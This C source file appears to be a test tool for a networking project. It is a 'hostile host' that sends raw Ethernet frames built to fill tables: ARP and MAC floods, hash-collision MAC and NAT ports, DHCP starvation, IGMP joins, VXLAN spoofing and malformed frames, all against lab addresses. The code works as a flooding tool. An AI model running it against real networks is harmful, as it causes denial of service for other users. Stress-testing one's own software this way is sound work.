/* Copyright the netty-tap authors. SPDX-License-Identifier: Apache-2.0 */

/*
 * A hostile host: sends frames that fill tables, from a network interface of its namespace, at a steady rate.
 *
 *     attack KIND INTERFACE SECONDS RATE GATEWAY_MAC
 *
 * Addresses are those of the attacks of this module: the attacker is in 10.1.0.0/16 and fd00:1::/64, others are in
 * 10.2.0.0/16 and 10.3.0.0/16, the last of them behind NAT. Prints how many frames the interface took.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_FRAME 1514
#define TICK_MICROS 1000
#define IPV4 14
#define RECORDS 180

struct frame {
	unsigned char bytes[MAX_FRAME];
	size_t length;
};

static uint64_t state = 1;
static uint32_t counter;
static unsigned char gateway[6];
static unsigned char own[6] = { 2, 0, 0, 0, 0, 0x66 };

/* Knuth's MMIX generator; the upper bits are the good ones. */
static uint32_t random32(void)
{
	state = state * 6364136223846793005ULL + 1442695040888963407ULL;
	return state >> 32;
}

static void put16(unsigned char *at, uint16_t value)
{
	at[0] = value >> 8;
	at[1] = value;
}

static void put32(unsigned char *at, uint32_t value)
{
	put16(at, value >> 16);
	put16(at + 2, value);
}

static uint32_t add(uint32_t sum, const unsigned char *at, size_t length)
{
	for (size_t i = 0; i + 1 < length; i += 2)
		sum += at[i] << 8 | at[i + 1];
	return length % 2 ? sum + (at[length - 1] << 8) : sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

static void put_mac(unsigned char *at, unsigned char second, uint32_t number)
{
	at[0] = 2;
	at[1] = second;
	put32(at + 2, number);
}

static void ethernet(struct frame *f, const unsigned char *to, const unsigned char *from, uint16_t type)
{
	memset(f->bytes, 0, sizeof(f->bytes));
	memcpy(f->bytes, to, 6);
	memcpy(f->bytes + 6, from, 6);
	put16(f->bytes + 12, type);
}

/* The IPv4 header of a payload that stands behind it; options are those of Router Alert, or none. */
static unsigned char *ipv4(struct frame *f, size_t header, uint8_t protocol, uint32_t from, uint32_t to, size_t payload)
{
	unsigned char *ip = f->bytes + IPV4;

	ip[0] = 0x40 | header / 4;
	put16(ip + 2, header + payload);
	ip[8] = protocol == 2 ? 1 : 64;
	ip[9] = protocol;
	put32(ip + 12, from);
	put32(ip + 16, to);
	if (header == 24)
		put32(ip + 20, 0x94040000);
	put16(ip + 10, fold(add(0, ip, header)));
	f->length = IPV4 + header + payload;
	return ip + header;
}

static void udp(struct frame *f, uint32_t from, uint32_t to, uint16_t source, uint16_t target, size_t payload)
{
	unsigned char *at = ipv4(f, 20, 17, from, to, 8 + payload);

	put16(at, source);
	put16(at + 2, target);
	put16(at + 4, 8 + payload);
}

#define ADDRESS(a, b, c, d) ((uint32_t)(a) << 24 | (b) << 16 | (c) << 8 | (d))
#define ATTACKER ADDRESS(10, 1, 0, 66)

static const unsigned char broadcast[6] = { 255, 255, 255, 255, 255, 255 };

static void arp(struct frame *f)
{
	unsigned char *at = f->bytes + 14;

	ethernet(f, broadcast, own, ETHERTYPE_ARP);
	memcpy(at, (unsigned char[]){ 0, 1, 8, 0, 6, 4, 0, 1 }, 8);
	memcpy(at + 8, own, 6);
	put32(at + 14, ADDRESS(10, 1, 0, 0) | (random32() & 0xffff));
	put32(at + 24, ADDRESS(10, 1, 0, 1));
	f->length = 60;
}

/* A neighbor solicitation for the router, from an address that is on the link or is not. */
static void solicit(struct frame *f, int prefix)
{
	static const unsigned char group[] = { 0x33, 0x33, 0xff, 0, 0, 1 };
	unsigned char *ip = f->bytes + 14, *icmp = ip + 40;
	uint32_t sum;

	ethernet(f, group, own, ETHERTYPE_IPV6);
	ip[0] = 0x60;
	put16(ip + 4, 32);
	ip[6] = 58;
	ip[7] = 255;
	memcpy(ip + 8, (unsigned char[]){ 0xfd, 0, 0, prefix }, 4);
	put32(ip + 16, random32());
	put32(ip + 20, random32());
	memcpy(ip + 24, (unsigned char[]){ 0xff, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0xff, 0, 0, 1 }, 16);
	icmp[0] = 135;
	memcpy(icmp + 8, (unsigned char[]){ 0xfd, 0, 0, 1 }, 4);
	icmp[23] = 1;
	icmp[24] = 1;
	icmp[25] = 1;
	memcpy(icmp + 26, own, 6);
	sum = add(add(58 + 32, ip + 8, 32), icmp, 32);
	put16(icmp + 2, fold(sum));
	f->length = 14 + 40 + 32;
}

static void dhcp(struct frame *f)
{
	unsigned char *at = f->bytes + IPV4 + 28, client[6];

	put_mac(client, 0xdc, counter);
	ethernet(f, broadcast, client, ETHERTYPE_IP);
	at[0] = 1;
	at[1] = 1;
	at[2] = 6;
	put32(at + 4, random32());
	at[10] = 0x80;
	memcpy(at + 28, client, 6);
	put32(at + 236, 0x63825363);
	memcpy(at + 240, (unsigned char[]){ 53, 1, 1, 255 }, 4);
	udp(f, 0, 0xffffffff, 68, 67, 300);
}

/* Each record joins a group of its own: IS_EX {}, RFC 3376, section 4.2. */
static void igmp(struct frame *f)
{
	static const unsigned char group[] = { 1, 0, 0x5e, 0, 0, 0x16 };
	size_t length = 8 + 8 * RECORDS;
	unsigned char *at;

	ethernet(f, group, own, ETHERTYPE_IP);
	at = f->bytes + IPV4 + 24;
	at[0] = 0x22;
	put16(at + 6, RECORDS);
	for (int i = 0; i < RECORDS; i++) {
		at[8 + 8 * i] = 2;
		put32(at + 12 + 8 * i, ADDRESS(239, 1, 0, 0) + (random32() & 0xffffff));
	}
	put16(at + 2, fold(add(0, at, length)));
	ipv4(f, 24, 2, ATTACKER, ADDRESS(224, 0, 0, 22), length);
}

/* A frame in VXLAN, from another endpoint than the one that the honest host is behind. */
static void vxlan(struct frame *f, uint32_t inner)
{
	unsigned char *at = f->bytes + IPV4 + 28;

	ethernet(f, gateway, own, ETHERTYPE_IP);
	at[0] = 8;
	at[6] = 7;
	put_mac(at + 8, 0, 1);
	put_mac(at + 14, 0xa, inner);
	put16(at + 20, 0x88b5);
	udp(f, ADDRESS(10, 5, 0, 66), ADDRESS(10, 5, 0, 1), 49152 + (counter & 0xff), 4789, 8 + 60);
}

static void malformed(struct frame *f)
{
	f->length = 14 + random32() % (MAX_FRAME - 14 + 1);
	for (size_t i = 0; i < f->length; i += 4) {
		uint32_t word = random32();

		memcpy(f->bytes + i, &word, f->length - i < 4 ? f->length - i : 4);
	}
	memcpy(f->bytes, random32() & 1 ? gateway : broadcast, 6);
	f->bytes[6] &= 0xfe;
	/* Half of them look like IP at first. */
	if (random32() & 1) {
		put16(f->bytes + 12, random32() & 1 ? ETHERTYPE_IP : ETHERTYPE_IPV6);
		f->bytes[14] = f->bytes[13] == 0 ? 0x45 : 0x60;
	}
}

static void make(struct frame *f, const char *kind)
{
	unsigned char mac[6];
	uint32_t number = random32();

	counter++;
	if (!strcmp(kind, "solicit"))
		solicit(f, 1);
	else if (!strcmp(kind, "solicit-off-link"))
		solicit(f, 9);
	else if (!strcmp(kind, "arp"))
		arp(f);
	else if (!strcmp(kind, "scan")) {
		ethernet(f, gateway, own, ETHERTYPE_IP);
		udp(f, ATTACKER, ADDRESS(10, 3, 128, 0) | (number & 0x7fff), 9, 9, 18);
	} else if (!strcmp(kind, "nat-ports")) {
		ethernet(f, gateway, own, ETHERTYPE_IP);
		udp(f, ATTACKER, ADDRESS(10, 3, 0, 2), number, number >> 16 | 1, 18);
	} else if (!strcmp(kind, "nat-chosen")) {
		/* Ports whose sum, and whose difference from a multiple, stay the same: what simple hashes map to one slot. */
		ethernet(f, gateway, own, ETHERTYPE_IP);
		udp(f, ATTACKER, ADDRESS(10, 3, 0, 2), counter, -31 * counter, 18);
	} else if (!strcmp(kind, "dhcp"))
		dhcp(f);
	else if (!strcmp(kind, "igmp"))
		igmp(f);
	else if (!strcmp(kind, "mac")) {
		put_mac(mac, 0xaa, number);
		ethernet(f, gateway, mac, 0x88b5);
		f->length = 60;
	} else if (!strcmp(kind, "mac-chosen")) {
		/* Equal in the lower bits and in the sum of the bytes: one slot of a simple hash. */
		put_mac(mac, 0xaa, (number & 0xff00) << 16 | (0xff00 - (number & 0xff00)) << 8 | 2);
		ethernet(f, gateway, mac, 0x88b5);
		f->length = 60;
	} else if (!strcmp(kind, "broadcast")) {
		ethernet(f, broadcast, own, 0x88b5);
		f->length = 60;
	} else if (!strcmp(kind, "malformed"))
		malformed(f);
	else if (!strcmp(kind, "vxlan"))
		vxlan(f, number);
	else if (!strcmp(kind, "vxlan-chosen"))
		vxlan(f, number << 16);
	else {
		fprintf(stderr, "no such attack: kind=%s\n", kind);
		exit(2);
	}
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	struct sockaddr_ll name = { .sll_family = AF_PACKET };
	double start, elapsed, seconds, rate;
	uint64_t tried = 0, sent = 0;
	struct frame f;
	/* Protocol 0: receives nothing. */
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);

	if (argc != 6 || sscanf(argv[5], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", gateway, gateway + 1, gateway + 2, gateway + 3,
				gateway + 4, gateway + 5) != 6) {
		fprintf(stderr, "usage: %s KIND INTERFACE SECONDS RATE GATEWAY_MAC\n", argv[0]);
		return 2;
	}
	name.sll_ifindex = if_nametoindex(argv[2]);
	if (fd < 0 || name.sll_ifindex == 0 || bind(fd, (struct sockaddr *)&name, sizeof(name)) < 0) {
		perror(argv[2]);
		return 1;
	}
	seconds = atof(argv[3]);
	rate = atof(argv[4]);
	start = now();
	while ((elapsed = now() - start) < seconds) {
		for (; tried < elapsed * rate; tried++) {
			make(&f, argv[1]);
			/* ENOBUFS: the queue of the interface is full, which is as good as sent and lost. */
			sent += send(fd, f.bytes, f.length, MSG_DONTWAIT) > 0;
		}
		usleep(TICK_MICROS);
	}
	printf("{\"sent\": %llu, \"seconds\": %.3f}\n", (unsigned long long)sent, elapsed);
	return 0;
}
